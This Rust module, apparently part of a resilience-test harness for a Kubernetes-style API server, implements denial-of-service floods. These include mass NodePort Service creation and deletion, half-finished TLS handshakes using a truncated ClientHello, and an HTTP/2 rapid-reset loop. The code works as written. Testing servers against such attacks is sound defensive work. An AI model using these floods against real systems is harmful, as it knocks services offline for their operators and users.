//! Floods that are cheap for the client: handshakes, cancelled requests, Services with node ports.

use std::time::{Duration, Instant};

use bytes::Bytes;
use tokio::io::AsyncWriteExt;

use super::{Round, together, within};
use crate::attack::tally::Ending;
use crate::attack::wire::{PATIENCE, Request};
use crate::server::https::JSON;

/// Number of clients creating Services, and of Services each.
const CLIENTS: usize = 50;
const SERVICES: usize = 4;
/// Number of handshakes, how many at once, and how many incomplete ones.
const HANDSHAKES: usize = 200;
const LANES: usize = 8;
const BEGUN: usize = 50;
const BEGUN_FOR: Duration = Duration::from_secs(12);
/// Start of a ClientHello with a larger length than what follows.
const HELLO: &[u8] = &[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03];
/// Number of cancelled requests.
const RESETS: usize = 2_000;

pub(super) async fn node_ports(round: Round) {
    let round = &round;
    together(round.count(CLIENTS), |client| async move {
        let mut connection = None;
        for service in 0..SERVICES {
            let name = format!("attack-{:x}-{client}-{service}", round.chance);
            let body = format!(
                r#"{{"apiVersion":"v1","kind":"Service","metadata":{{"name":"{name}"}},"spec":{{"type":"NodePort",
                "ports":[{{"port":80}}]}}}}"#
            );
            let create = Request::create(round.core("services"), body);
            let delete = Request::new("DELETE", round.core(&format!("services/{name}")), JSON, Bytes::new());
            let made = round.exchange(&mut connection, &create, &round.by.who).await;
            // One whose creation has no answer may be there all the same.
            if made.is_none_or(|answer| answer.status == 201) {
                round.exchange(&mut connection, &delete, &round.by.who).await;
            }
        }
    })
    .await;
}

pub(super) async fn handshakes(round: Round) {
    let round = &round;
    let each = round.count(HANDSHAKES).div_ceil(LANES);
    together(LANES + 1, |lane| async move {
        if lane == LANES {
            return begun_only(round).await;
        }
        for _ in 0..each {
            let begun = Instant::now();
            let shaken = within(PATIENCE, round.by.target.connect()).await.map(|_| Ending::Shaken);
            round.note(shaken.unwrap_or_else(|ending| ending), begun);
        }
    })
    .await;
}

/// Connections on which a handshake begins and doesn't go on.
async fn begun_only(round: &Round) {
    let mut silent = Vec::new();
    let begun = Instant::now();
    for _ in 0..round.count(BEGUN) {
        let connected = async {
            let mut stream = round.by.target.plain().await?;
            stream.write_all(HELLO).await?;
            Ok(stream)
        };
        match within(PATIENCE, connected).await {
            Ok(stream) => silent.push(stream),
            Err(ending) => round.note(ending, begun),
        }
    }
    tokio::time::sleep(BEGUN_FOR).await;
    for _ in silent {
        round.note(Ending::HungUp, begun);
    }
}

pub(super) async fn rapid_reset(round: Round) {
    let begun = Instant::now();
    let builder = h2::client::Builder::new();
    let sender = match within(PATIENCE, round.by.target.connect_http2(&builder)).await {
        Ok(sender) => sender,
        Err(ending) => return round.note(ending, begun),
    };
    let request = Request::get(round.core("configmaps"));
    for _ in 0..round.count(RESETS) {
        let Ok(request) = request.for_http2(&round.by.who) else { return };
        let ready = tokio::time::timeout(PATIENCE, sender.clone().ready()).await;
        let sent =
            ready.ok().and_then(Result::ok).and_then(|mut sender| sender.send_request(request, true).ok());
        let Some((_, mut stream)) = sent else { return round.note(Ending::Closed, begun) };
        // The request has to be on its way before it is taken back.
        tokio::task::yield_now().await;
        tokio::task::yield_now().await;
        stream.send_reset(h2::Reason::CANCEL);
        round.note(Ending::Reset, Instant::now());
    }
}
